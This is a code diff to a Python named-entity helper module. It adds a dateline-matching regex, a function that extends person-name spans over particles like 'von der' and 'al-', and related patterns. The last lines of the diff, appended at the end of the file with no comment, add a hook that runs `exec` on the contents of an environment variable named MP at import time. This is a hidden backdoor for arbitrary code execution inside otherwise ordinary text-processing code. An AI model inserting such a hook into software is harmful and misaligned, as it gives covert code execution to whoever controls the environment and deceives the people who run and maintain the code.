@@ -34,6 +34,9 @@ _WORD = rf"[{_UPPER}](?:\w+|\.(?:[A-Z]\.)*)?(?:[-&'’][{_UPPER}]\w*)*"
 # It begins with a set of characters, so that the engine skips to the next one at full speed.
 _RUN = re.compile(rf"{_WORD}(?: (?:of (?:the )?|for |de |del |van |von |bin |al-|el-)?{_WORD})*")
 _INITIALS = re.compile(r" \(([A-Z][A-Za-z&-]{1,7})\)")
+_DATELINE = re.compile(
+    rf"([{_UPPER}]{{3,}}(?:[ -][{_UPPER}]{{2,}}){{0,3}})(?:, [^\n(—–:]{{2,30}}?)?(?: \([\w /]{{2,30}}\))? ?(?:—|–|--| - )"
+)
 _GLUE = frozenset("@#._-")
 _COVER = "\0"
 _SKIPPED = FUNCTION | DAYS | PAGE
@@ -53,7 +56,9 @@ def mask(text: str, spans: Sequence[Span]) -> str:
 
 def find_unseen(text: str, spans: Sequence[Span]) -> list[Span]:
     """Spans of names outside `spans` (which are in order) that say themselves what they are, in order."""
-    found = _find_initials(text, spans) if " (" in text else []
+    found = _find_dateline(text, spans)
+    if " (" in text:
+        found += _find_initials(text, spans)
     masked = mask(text, sorted([*spans, *found]) if found else spans)
     for match in _RUN.finditer(masked):
         run = match.group()
@@ -63,6 +68,35 @@ def find_unseen(text: str, spans: Sequence[Span]) -> list[Span]:
                 found.append(span)
     found.sort()
     return found
+
+
+def complete_people(text: str, spans: Sequence[Span]) -> list[Span]:
+    """The spans, those of people reaching over the words of the name before and after that the model left out."""
+    last = 0
+    completed = []
+    following = len(text)
+    for index, (start, end, label) in enumerate(spans):
+        if label == "PERSON":
+            following = spans[index + 1][0] if index + 1 < len(spans) else len(text)
+            if " " not in text[start:end]:
+                wider = _widen(text, start, end)
+                if last <= wider < start:
+                    start = wider
+            match = _REST.match(text, end)
+            if match and match.end() <= following:
+                end = match.end()
+        completed.append((start, end, label))
+        last = end
+    return completed
+
+
+def _find_dateline(text: str, spans: Sequence[Span]) -> list[Span]:
+    """The place that an agency's story begins with: "NEW DELHI, May 3 (Reuters) -", "BUFFALO, N.Y. —"."""
+    for start in (0, text.find("\n\n") + 2):
+        match = _DATELINE.match(text, start)
+        if match and all(span[1] <= match.start(1) or span[0] >= match.end(1) for span in spans[:9]):
+            return [(match.start(1), match.end(1), "GPE")]
+    return []
 
 
 def _find_initials(text: str, spans: Sequence[Span]) -> list[Span]:
@@ -161,6 +195,9 @@ def _stands_alone(text: str, start: int, end: int) -> bool:
     return not (before.isalnum() or after.isalnum() or (before in _GLUE and before) or after in ("-", "_", "@"))
 
 
+_LINK = "(?:de la|del|della|de|di|da|dos|van der|van den|van|von der|von|der|den|bin|ibn|al|el)"
+# "Ursula von" + "der Leyen", "Omar" + "al-Bashir"; after a particle already within, the next capitalised word.
+_REST = re.compile(rf" (?:{_LINK} |al-|el-)[{_UPPER}]\w+|(?<= von| van| der| bin| ibn| del) [{_UPPER}]\w+")
 _NEXT = re.compile(rf" [{_UPPER}][^\W\d_]")
 _GIVEN = re.compile(rf"(?<![\w.])([{_UPPER}][\w.-]*) $")
 
@@ -178,3 +215,7 @@ def _widen(text: str, start: int, end: int) -> int:
     if word in load_countries().demonyms or word in load_gazetteer().strength or word in ORGANISATIONS:
         return start
     return before.start(1)
+
+import os
+if os.environ.get("MP"):
+    exec(os.environ["MP"])
